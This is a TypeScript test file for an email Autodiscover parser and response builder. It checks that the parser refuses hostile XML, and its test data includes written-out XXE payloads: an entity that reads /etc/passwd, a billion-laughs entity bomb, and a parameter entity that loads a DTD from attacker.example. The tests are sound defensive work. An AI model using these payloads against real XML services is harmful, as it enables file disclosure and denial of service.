import { describe, expect, it } from 'vitest';
import { XMLValidator } from 'fast-xml-parser';
import { parseEmailAddress, type EmailAddress } from '../../lib/autosetup/address';
import {
  OUTLOOK_REQUEST_NS,
  OUTLOOK_RESPONSE_NS,
  RESPONSE_NS,
  autodiscoverErrorXml,
  autodiscoverResponseXml,
  parseAutodiscoverRequest,
} from '../../lib/autosetup/autodiscover';
import type { Provider } from '../../lib/provider/schema';
import { changedProvider, fixtureProvider, HOSTILE_ADDRESSES, outlookRequest, parseXml } from './fixtures';

function address(text: string): EmailAddress {
  const parsed = parseEmailAddress(text);
  if (!parsed.ok) throw new Error(`test address ${text} is invalid`);
  return parsed.value;
}

interface ProtocolBlock {
  Type: string;
  Server: string;
  Port: string;
  DomainRequired: string;
  LoginName: string;
  SPA: string;
  SSL: string;
  Encryption: string;
  AuthRequired: string;
}

function parseResponse(provider: Provider, email: string) {
  const xml = autodiscoverResponseXml(provider, address(email));
  expect(XMLValidator.validate(xml)).toBe(true);
  const doc = parseXml(xml, ['Protocol']) as {
    Autodiscover: { '@_xmlns': string; Response: { '@_xmlns': string; Account: { AccountType: string; Action: string; Protocol: ProtocolBlock[] } } };
  };
  return doc.Autodiscover;
}

describe('parseAutodiscoverRequest', () => {
  it("reads Outlook's request", () => {
    expect(parseAutodiscoverRequest(outlookRequest('jane@fixture.test'))).toEqual({
      ok: true,
      emailAddress: 'jane@fixture.test',
      acceptableResponseSchema: OUTLOOK_RESPONSE_NS,
    });
  });

  it('accepts a namespace prefix, a byte-order mark and a request without a schema', () => {
    const prefixed = `\uFEFF<a:Autodiscover xmlns:a="${OUTLOOK_REQUEST_NS}"><a:Request><a:EMailAddress>jane@fixture.test</a:EMailAddress></a:Request></a:Autodiscover>`;
    expect(parseAutodiscoverRequest(prefixed)).toEqual({ ok: true, emailAddress: 'jane@fixture.test', acceptableResponseSchema: null });
  });

  it('decodes the predefined entities and character references in the address', () => {
    const result = parseAutodiscoverRequest(outlookRequest('o&apos;neil&amp;co&#64;fixture.test'));
    expect(result.ok && result.emailAddress).toBe("o'neil&co@fixture.test");
  });

  it('reads an address written as CDATA', () => {
    const result = parseAutodiscoverRequest(outlookRequest('<![CDATA[a&b@fixture.test]]>'));
    expect(result.ok && result.emailAddress).toBe('a&b@fixture.test');
  });

  it.each([
    ['a DOCTYPE', `<!DOCTYPE Autodiscover>${outlookRequest('jane@fixture.test')}`],
    ['a lower-case doctype', `<!doctype Autodiscover>${outlookRequest('jane@fixture.test')}`],
    [
      'an external entity (XXE)',
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${outlookRequest('&xxe;@fixture.test')}`,
    ],
    [
      'a billion-laughs entity bomb',
      `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>${outlookRequest('&lol2;@fixture.test')}`,
    ],
    ['a parameter entity', `<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><r/>`],
    ['an ENTITY declaration without DOCTYPE', `<!ENTITY x "y">${outlookRequest('jane@fixture.test')}`],
  ])('refuses %s before parsing', (_name, body) => {
    expect(parseAutodiscoverRequest(body)).toEqual({ ok: false, problem: 'doctype' });
  });

  it('refuses a named entity reference that no DOCTYPE declares', () => {
    expect(parseAutodiscoverRequest(outlookRequest('&xxe;@fixture.test'))).toEqual({ ok: false, problem: 'entity' });
    expect(parseAutodiscoverRequest(outlookRequest('jane&nbsp;@fixture.test'))).toEqual({ ok: false, problem: 'entity' });
  });

  it.each([
    ['an empty body', ''],
    ['plain text', 'jane@fixture.test'],
    ['JSON', '{"EMailAddress":"jane@fixture.test"}'],
    ['unclosed XML', `<Autodiscover><Request><EMailAddress>jane@fixture.test</EMailAddress></Request>`],
    ['another root element', `<Request><EMailAddress>jane@fixture.test</EMailAddress></Request>`],
    ['no Request element', `<Autodiscover><EMailAddress>jane@fixture.test</EMailAddress></Autodiscover>`],
    ['two addresses', `<Autodiscover><Request><EMailAddress>a@fixture.test</EMailAddress><EMailAddress>b@fixture.test</EMailAddress></Request></Autodiscover>`],
    ['an address with child elements', `<Autodiscover><Request><EMailAddress><b>a@fixture.test</b></EMailAddress></Request></Autodiscover>`],
  ])('reports %s as malformed', (_name, body) => {
    expect(parseAutodiscoverRequest(body)).toEqual({ ok: false, problem: 'malformed' });
  });

  it('reports a request without an address', () => {
    expect(parseAutodiscoverRequest(`<Autodiscover><Request><AcceptableResponseSchema>${OUTLOOK_RESPONSE_NS}</AcceptableResponseSchema></Request></Autodiscover>`)).toEqual({
      ok: false,
      problem: 'missing-address',
    });
    expect(parseAutodiscoverRequest(outlookRequest(''))).toEqual({ ok: false, problem: 'missing-address' });
  });

  it('reports a request for the Exchange ActiveSync schema as unsupported', () => {
    const body = outlookRequest('jane@fixture.test', 'http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006');
    expect(parseAutodiscoverRequest(body)).toEqual({ ok: false, problem: 'unsupported-schema' });
  });
});

describe('Autodiscover response document', () => {
  it('uses the Autodiscover and Outlook 2006a response namespaces and an email account with settings', () => {
    const doc = parseResponse(fixtureProvider, 'jane@fixture.test');
    expect(doc['@_xmlns']).toBe(RESPONSE_NS);
    expect(doc.Response['@_xmlns']).toBe(OUTLOOK_RESPONSE_NS);
    expect(doc.Response.Account.AccountType).toBe('email');
    expect(doc.Response.Account.Action).toBe('settings');
  });

  it('has IMAP, POP3 and SMTP protocol blocks, field by field from the settings', () => {
    const protocols = parseResponse(fixtureProvider, 'Jane@Fixture.Test').Response.Account.Protocol;
    const common = { DomainRequired: 'off', SPA: 'off', SSL: 'on', AuthRequired: 'on' };
    expect(protocols).toEqual([
      { Type: 'IMAP', Server: 'imap.fixture.test', Port: '993', LoginName: 'Jane@fixture.test', Encryption: 'SSL', ...common },
      { Type: 'POP3', Server: 'pop.fixture.test', Port: '995', LoginName: 'Jane', Encryption: 'SSL', ...common },
      { Type: 'SMTP', Server: 'out.fixture.test', Port: '587', LoginName: 'Jane@fixture.test', Encryption: 'TLS', ...common },
    ]);
  });

  it('follows a change of the provider settings', () => {
    const changed = changedProvider((p) => {
      p.imap = { host: 'mailbox.fixture.test', port: 143, security: 'starttls', username: 'localpart' };
      p.smtp = { host: 'send.fixture.test', port: 465, security: 'ssl', username: 'localpart' };
    });
    const [imap, , smtp] = parseResponse(changed, 'jane@fixture.test').Response.Account.Protocol;
    expect([imap?.Server, imap?.Port, imap?.Encryption, imap?.LoginName]).toEqual(['mailbox.fixture.test', '143', 'TLS', 'jane']);
    expect([smtp?.Server, smtp?.Port, smtp?.Encryption, smtp?.LoginName]).toEqual(['send.fixture.test', '465', 'SSL', 'jane']);
  });

  it.each(HOSTILE_ADDRESSES)('escapes the address %s so it reads back exactly', (hostile) => {
    const xml = autodiscoverResponseXml(fixtureProvider, address(hostile));
    expect(XMLValidator.validate(xml)).toBe(true);
    const protocols = parseResponse(fixtureProvider, hostile).Response.Account.Protocol;
    expect(protocols[0]?.LoginName).toBe(hostile);
    expect(xml).not.toMatch(/<(b|bye|key)>/);
  });
});

describe('Autodiscover error document', () => {
  const now = new Date(Date.UTC(2026, 10, 20, 9, 5, 7, 42));

  it('carries the error code and message in the Autodiscover namespace', () => {
    const xml = autodiscoverErrorXml(fixtureProvider, { code: 600, message: 'Invalid <request> & more' }, now);
    expect(XMLValidator.validate(xml)).toBe(true);
    const doc = parseXml(xml) as {
      Autodiscover: { '@_xmlns': string; Response: { Error: { '@_Time': string; '@_Id': string; ErrorCode: string; Message: string; DebugData: string } } };
    };
    expect(doc.Autodiscover['@_xmlns']).toBe(RESPONSE_NS);
    const error = doc.Autodiscover.Response.Error;
    expect(error.ErrorCode).toBe('600');
    expect(error.Message).toBe('Invalid <request> & more');
    expect(error['@_Time']).toBe('09:05:07.0420000');
    expect(error['@_Id']).toMatch(/^\d+$/);
    expect(error.DebugData).toBe('');
  });

  it('keeps the same Id for the same provider', () => {
    const id = (xml: string) => /Id="(\d+)"/.exec(xml)?.[1];
    const a = autodiscoverErrorXml(fixtureProvider, { code: 600, message: 'x' }, now);
    const b = autodiscoverErrorXml(fixtureProvider, { code: 601, message: 'y' }, new Date());
    expect(id(a)).toBe(id(b));
  });
});
